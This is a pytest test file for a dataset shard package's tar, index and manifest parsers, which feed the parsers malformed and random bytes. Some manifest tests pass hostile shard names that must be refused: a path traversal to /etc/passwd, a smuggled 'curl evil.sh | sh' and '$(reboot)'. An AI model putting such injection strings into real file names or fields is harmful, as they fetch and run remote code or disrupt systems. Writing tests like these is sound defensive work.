"""The shard format package: the strict tar reader, the index parser and the manifest parser on what tarfile writes
and on hostile bytes.

Property tests (hypothesis) feed random and mutated bytes: each parser either reads correctly or raises the project's
own error, within bounded memory (no allocation beyond what the input may hold) and time.
"""

from __future__ import annotations

import contextlib
import io
import json
import tarfile
from pathlib import Path

import numpy as np
import pytest
import torch
import webdataset as wds
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from torchvision.io import encode_jpeg

from shards.index import IndexFileError, member_header_problem, parse_index
from shards.manifest import ShardInfo, parse_manifest
from shards.schema import MAX_FRAMES, FeatureParams, Sample, SchemaError, check_schema_version, encode_sample
from shards.tar import TarReadError, tar_members, tar_samples
from shards.writer import ShardWriter

PROPERTY = settings(max_examples=300, deadline=2000, suppress_health_check=[HealthCheck.function_scoped_fixture])


def tar_bytes(names: list[str], fmt: int = tarfile.USTAR_FORMAT, size_step: int = 700) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt) as tar:
        folder = tarfile.TarInfo("dir")
        folder.type = tarfile.DIRTYPE
        tar.addfile(folder)  # a directory entry is passed over
        for i, name in enumerate(names):
            info = tarfile.TarInfo(name)
            info.size = size_step * i
            tar.addfile(info, io.BytesIO(bytes([i]) * info.size))
    return buffer.getvalue()


def read_all(data: bytes, exts: frozenset[str] | None = None) -> list:
    return list(tar_samples(io.BytesIO(data), len(data), exts))


@pytest.mark.parametrize("fmt", [tarfile.USTAR_FORMAT, tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
def test_reads_what_tarfile_writes(fmt: int) -> None:
    long_key = "k" * 120  # beyond ustar's 100-character name: pax and GNU long names
    names = ["a.frame00.jpg", "a.logmel.f16", "dir/b.frame00.jpg", "dir/b.labels.i32"]
    if fmt != tarfile.USTAR_FORMAT:
        names.append(f"{long_key}.labels.i32")
    data = tar_bytes(names, fmt)
    want = [("a", {"frame00.jpg": b"", "logmel.f16": b"\1" * 700}),
            ("dir/b", {"frame00.jpg": b"\2" * 1400, "labels.i32": b"\3" * 2100})]  # fmt: skip
    if fmt != tarfile.USTAR_FORMAT:
        want.append((long_key, {"labels.i32": b"\4" * 2800}))
    assert read_all(data) == want
    assert read_all(data, frozenset(["labels.i32"]))[1] == ("dir/b", {"labels.i32": b"\3" * 2100})
    with pytest.raises(TarReadError, match=r"member dir/b\.frame00\.jpg claims 1400 bytes .* \(cut short"):
        read_all(data[: data.index(b"\2" * 1400) + 100])
    with pytest.raises(TarReadError, match="no end-of-archive marker"):
        read_all(data[: data.rindex(b"\3" * 2100) + 2560])
    with pytest.raises(TarReadError, match="bad checksum"):
        read_all(b"<html>not found</html>" + bytes(1000))


def test_member_offsets_are_where_the_payloads_lie() -> None:
    data = tar_bytes(["a.x", "a.y", "b.x"])
    for member in tar_members(io.BytesIO(data), len(data)):
        assert data[member.offset : member.offset + member.size] == member.payload


@pytest.mark.parametrize("fmt", [tarfile.USTAR_FORMAT, tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
def test_the_header_before_each_payload_is_its_members(fmt: int) -> None:
    """What an index check finds before each payload of what tarfile writes (long names: their first 100 bytes)."""
    names = ["a.frame00.jpg", "a.logmel.f16", "dir/b.labels.i32"]
    if fmt != tarfile.USTAR_FORMAT:
        names.append(f"{'k' * 120}.labels.i32")
    data = tar_bytes(names, fmt)
    members = list(tar_members(io.BytesIO(data), len(data)))
    for member in members:
        header, name = data[member.offset - 512 : member.offset], f"{member.key}.{member.ext}"
        assert member_header_problem(header, name, member.size) is None
        assert f"is member '{name[:100]}', not z.frame00.jpg" in str(member_header_problem(header, "z.frame00.jpg", 0))
        assert "says" in str(member_header_problem(header, name, member.size + 1))
    payload = data[members[1].offset + 512 : members[1].offset + 1024]
    assert "no tar header before it" in str(member_header_problem(payload, "a.logmel.f16", 700))


def header_claiming(size: int, name: str = "k.logmel.f16") -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(format=tarfile.GNU_FORMAT)  # GNU: sizes past 8 GiB in base-256


@pytest.mark.parametrize("size", [10**6, 10**11, 2**62])
def test_a_header_claiming_a_huge_member_is_refused_before_any_allocation(size: int) -> None:
    data = header_claiming(size) + bytes(4096)
    with pytest.raises(TarReadError, match=r"claims|not octal"):
        read_all(data)


def test_a_pax_header_of_zero_length_records_does_not_loop_forever() -> None:
    header = header_claiming(6, "././@PaxHeader")
    header = header[:156] + b"x" + header[157:]
    checksum = sum(header[:148]) + 8 * 32 + sum(header[156:])
    header = header[:148] + f"{checksum:06o}\0 ".encode() + header[156:]
    data = header + b"0 a=b\n".ljust(512, b"\0") + bytes(1024)
    with pytest.raises(TarReadError, match="malformed pax"):
        read_all(data)


def test_a_negative_size_is_not_octal() -> None:
    header = bytearray(header_claiming(0))
    header[124:136] = b"-0000000001\0"
    header[148:156] = f"{sum(header[:148]) + 8 * 32 + sum(header[156:]):06o}\0 ".encode()
    with pytest.raises(TarReadError, match="not octal"):
        read_all(bytes(header) + bytes(1024))


SOUND_TAR = tar_bytes(["a.frame00.jpg", "a.logmel.f16", "b.frame00.jpg", "b.labels.i32"], tarfile.PAX_FORMAT)


@PROPERTY
@given(st.binary(max_size=4096))
def test_random_bytes_read_or_raise_tar_read_error(data: bytes) -> None:
    try:
        samples = read_all(data)
    except TarReadError:
        return
    assert sum(len(p) for _, members in samples for p in members.values()) <= len(data)


@PROPERTY
@given(st.data())
def test_mutated_tars_read_or_raise_tar_read_error(data: st.DataObject) -> None:
    raw = bytearray(SOUND_TAR)
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(raw) - 1))
        raw[position] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(raw)))
    mutated = bytes(raw[:cut])
    try:
        samples = read_all(mutated)
    except TarReadError:
        return
    assert sum(len(p) for _, members in samples for p in members.values()) <= len(mutated)


# The index parser.


@pytest.fixture
def shard(tmp_path: Path) -> tuple[Path, ShardInfo]:
    with ShardWriter(tmp_path / "shard-000000.tar") as writer:
        for key in ("a", "b-1"):
            writer.add(
                key, [(f"{key}.frame00.jpg", b"\xff\xd8" + bytes(600) + b"\xff\xd9"), (f"{key}.labels.i32", b"\0" * 4)]
            )
        info = writer.close()
    return tmp_path, info


def test_index_of_the_writer_parses(shard: tuple[Path, ShardInfo]) -> None:
    folder, info = shard
    refs = parse_index(folder / info.index_name, info)
    assert [r.key for r in refs] == ["a", "b-1"]
    data = (folder / info.name).read_bytes()
    offset, size = refs[1].members["frame00.jpg"]
    assert data[offset : offset + size] == b"\xff\xd8" + bytes(600) + b"\xff\xd9"


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda t: t.replace(" 2048 4 ", " -2048 4 ", 1), "malformed member"),
        (lambda t: t.replace(" 4 a.labels", " 99999999999 a.labels", 1), "lies outside shard-000000.tar"),
        (lambda t: t.replace("frame00.jpg 512", "frame00.jpg 0", 1), "lies outside"),
        (lambda t: t.replace("a.labels.i32", "../../etc.labels.i32", 1), "malformed member"),
        (lambda t: t.replace("v1.2 2", "v1.2 3"), "header says 3 samples, 2 listed"),
        (lambda t: t.replace("v1.2", "v9"), "not a v1.2 wds2idx index file"),
        (lambda t: t + "garbage\n", "malformed index line"),
    ],
)
def test_damaged_index_names_the_file_and_line(shard: tuple[Path, ShardInfo], edit, message: str) -> None:
    folder, info = shard
    path = folder / info.index_name
    path.write_text(edit(path.read_text()))
    with pytest.raises(IndexFileError, match=message) as raised:
        parse_index(path, info)
    assert str(path) in str(raised.value)


def test_an_index_that_is_not_text(shard: tuple[Path, ShardInfo]) -> None:
    folder, info = shard
    (folder / info.index_name).write_bytes(b"v1.2 1\n\xff\xfe\x00garbage")
    with pytest.raises(IndexFileError, match="cannot be read as an index file"):
        parse_index(folder / info.index_name, info)


@PROPERTY
@given(st.binary(max_size=2048))
def test_random_index_bytes_parse_or_raise_loader_error(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    path = tmp_path_factory.mktemp("idx") / "shard-000000.idx"
    path.write_bytes(data)
    info = ShardInfo("shard-000000.tar", 1, 1 << 20, "0" * 64)
    try:
        refs = parse_index(path, info)
    except IndexFileError:
        return
    assert all(o >= 0 and o + n <= info.bytes for r in refs for o, n in r.members.values())


@PROPERTY
@given(st.data())
def test_mutated_index_text_parses_or_raises_loader_error(
    shard: tuple[Path, ShardInfo], tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    folder, info = shard
    text = list((folder / info.index_name).read_text())
    for _ in range(data.draw(st.integers(1, 6))):
        text[data.draw(st.integers(0, len(text) - 1))] = data.draw(st.sampled_from("0123456789 -.\nav/x"))
    path = tmp_path_factory.mktemp("idx") / info.index_name
    path.write_text("".join(text))
    try:
        refs = parse_index(path, info)
    except IndexFileError:
        return
    assert all(o >= 512 and o + n <= info.bytes for r in refs for o, n in r.members.values())


# The manifest parser.

MANIFEST = {
    "schema_version": 1, "dataset": "audioset", "split": "eval", "num_samples": 2, "num_failures": 0,
    "multi_label": True, "features": {"num_frames": 8, "short_side_px": 256, "segment_s": 10.0},
    "classes": [{"index": 0, "id": "/m/0", "name": "Speech"}, {"index": 1, "id": "/m/1", "name": "Music"}],
    "logmel": {"mean": -4.0, "std": 4.0, "count": 10, "sum": -40.0, "sum_sq": 320.0},
    "shards": [{"name": "shard-000000.tar", "num_samples": 2, "bytes": 10240, "sha256": "ab" * 32}],
    "failures": [], "job": {},
}  # fmt: skip


def test_a_sound_manifest_parses() -> None:
    manifest = parse_manifest(json.dumps(MANIFEST), "m.json")
    assert manifest.num_samples == 2 and manifest.shards[0].index_name == "shard-000000.idx"


def test_the_clip_counts_are_optional_and_round_trip() -> None:
    """A manifest of an older job has no counts of silent and padded clips; a new one keeps them."""
    assert parse_manifest(json.dumps(MANIFEST), "m.json").clips is None
    counted = parse_manifest(json.dumps({**MANIFEST, "clips": {"no_audio": 1, "padded": 2}}), "m.json")
    assert counted.clips == {"no_audio": 1, "padded": 2}
    assert parse_manifest(json.dumps(counted.to_dict()), "m.json").clips == counted.clips
    assert "clips" not in parse_manifest(json.dumps(MANIFEST), "m.json").to_dict()


@pytest.mark.parametrize("version", [1, 2])
def test_schema_versions_1_and_2_load_and_others_are_refused(version: int) -> None:
    """Version 1 (frames of short clips spread over what they had) still loads; the frames of both versions are at
    (i + 0.5) · segment / F."""
    manifest = parse_manifest(json.dumps({**MANIFEST, "schema_version": version}), "m.json")
    assert manifest.schema_version == version and manifest.features.frames_per_s == 0.8
    with pytest.raises(SchemaError, match="schema version 3, this code reads versions 1, 2"):
        parse_manifest(json.dumps({**MANIFEST, "schema_version": 3}), "m.json")


@pytest.mark.parametrize("version", [3, 0, None, True, 2.0, "2"])
def test_the_schema_check_reads_versions_1_and_2_only(version: object) -> None:
    """One check for manifests, checkpoints and exports; a bool or a float is no version, even if it equals one."""
    assert [check_schema_version(v, "x") for v in (1, 2)] == [1, 2]
    with pytest.raises(SchemaError, match=r"^x: schema version .*, this code reads versions 1, 2$"):
        check_schema_version(version, "x")


def test_feature_parameters_hold_1_to_max_frames() -> None:
    assert FeatureParams(num_frames=MAX_FRAMES).validate().num_frames == MAX_FRAMES
    for frames in (0, MAX_FRAMES + 1):
        with pytest.raises(SchemaError, match=rf"num_frames must be in 1\.\.{MAX_FRAMES}, got {frames}"):
            FeatureParams(num_frames=frames).validate()


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("../../etc/passwd", "not one the shard writer gives"),
        ("shard-000000.tar; curl evil.sh | sh", "not one the shard writer gives"),
        ("$(reboot).tar", "not one the shard writer gives"),
        ("/abs/shard-000000.tar", "not one the shard writer gives"),
        ("shard-000000.tar\n", "not one the shard writer gives"),
    ],
)
def test_shard_names_that_are_not_the_writers_are_refused_naming_the_manifest(name: str, message: str) -> None:
    data = json.loads(json.dumps(MANIFEST))
    data["shards"][0]["name"] = name
    with pytest.raises(SchemaError, match=message) as raised:
        parse_manifest(json.dumps(data), "s3://bucket/as/eval/manifest.json")
    assert str(raised.value).startswith("s3://bucket/as/eval/manifest.json: ")


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda d: d["logmel"].update(sum=float("nan")), "is not a number JSON allows"),
        (lambda d: d["logmel"].update(sum_sq=float("inf")), "is not a number JSON allows"),
        (lambda d: d["logmel"].update(count=-1), "are not a count and finite sums"),
        (lambda d: d["shards"][0].update(num_samples=10**12), "num_samples"),
        (lambda d: d["shards"][0].update(bytes=-512), "is not a tar's size"),
        (lambda d: d["shards"][0].update(sha256="zz"), "sha256"),
        (lambda d: d["shards"].append(dict(d["shards"][0])), "listed twice"),
        (lambda d: d["features"].update(segment_s=1e9), "segment_s"),
        (lambda d: d["features"].update(short_side_px=255), "short_side_px must be an even number"),
        (lambda d: d.update(classes=[]), "classes must be a list of 1"),
        (lambda d: d.update(multi_label="yes"), "multi_label must be true or false"),
        (lambda d: d.update(shards={"a": 1}), "shards must be a list"),
        (lambda d: d["classes"][1].update(name="Music\x1b]0;x\x07"), r"class 1's name 'Music\x1b]0;x\x07' holds"),
        (lambda d: d["classes"][0].update(id="/m/0\u202e"), "class 0's id '/m/0\\u202e' holds the control character"),
        (lambda d: d["classes"][0].update(name="n" * 2000), "has 2000 characters, more than 1024"),
        (lambda d: d["shards"][0].update(num_samples=6), "6 samples cannot fit in 10240 bytes"),
        (lambda d: d.update(clips={"no_audio": 3, "padded": 0}), "clips must map no_audio and padded to counts of"),
        (lambda d: d.update(clips={"no_audio": 1}), "clips must map no_audio and padded"),
        (lambda d: d.update(clips={"no_audio": -1, "padded": True}), "clips must map no_audio and padded"),
        (
            lambda d: d.update(
                shards=[
                    {"name": f"shard-{i:06d}.tar", "num_samples": 10**7, "bytes": 2048 * 10**7, "sha256": "ab" * 32}
                    for i in range(11)
                ]
            ),
            "its shards hold 110000000 samples and it lists 0 failures, more rows than a split may have (100000000)",
        ),
    ],
)
def test_manifests_claiming_what_they_cannot_are_refused(edit, message: str) -> None:
    data = json.loads(json.dumps(MANIFEST))
    edit(data)
    with pytest.raises(SchemaError) as raised:
        parse_manifest(json.dumps(data), "manifest.json")
    assert message in str(raised.value) and "\x1b" not in str(raised.value)


@PROPERTY
@given(st.binary(max_size=2048))
def test_random_manifest_bytes_parse_or_raise_schema_error(data: bytes) -> None:
    with contextlib.suppress(SchemaError):
        parse_manifest(data, "manifest.json")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)


@pytest.mark.slow
@PROPERTY
@given(st.sampled_from(sorted(MANIFEST)), json_values)
def test_manifest_with_one_field_replaced_parses_or_raises_schema_error(field: str, value: object) -> None:
    data = {**MANIFEST, field: value}
    try:
        manifest = parse_manifest(json.dumps(data), "manifest.json")
    except SchemaError:
        return
    assert all(s.name.startswith("shard-") and s.name.endswith(".tar") for s in manifest.shards)


# Any WebDataset user reads the shards: webdataset's own reader over what the shard writer writes.


def test_webdataset_reads_our_shards_as_any_webdataset_user_would(tmp_path: Path) -> None:
    params = FeatureParams(num_frames=2, short_side_px=32, segment_s=0.5)
    written = {}
    for i, key in enumerate(["-ytid_0", "other_1500"]):
        frames = [bytes(encode_jpeg(torch.full((3, 32, 48), 40 * (i + f), dtype=torch.uint8)).numpy()) for f in (0, 1)]
        logmel = np.full(params.logmel_shape, i - 0.5, dtype=np.float16)
        written[key] = Sample(key, frames, logmel, np.array([i, 3], np.int32), {"clip": i})
    for shard in range(2):
        with ShardWriter(tmp_path / f"shard-{shard:06d}.tar") as writer:
            sample = list(written.values())[shard]
            writer.add(sample.key, encode_sample(sample, params))
            writer.close()
    dataset = wds.WebDataset(str(tmp_path / "shard-{000000..000001}.tar"), shardshuffle=False).decode("rgb8")
    got = {sample["__key__"]: sample for sample in dataset}
    assert set(got) == set(written)
    for key, sample in got.items():
        assert sample["frame00.jpg"].shape == (32, 48, 3) and sample["frame00.jpg"].dtype == np.uint8
        logmel = np.frombuffer(sample["logmel.f16"], "<f2").reshape(params.logmel_shape)
        assert np.array_equal(logmel, written[key].logmel)
        assert np.frombuffer(sample["labels.i32"], "<i4").tolist() == written[key].labels.tolist()
        assert sample["meta.json"] == written[key].meta
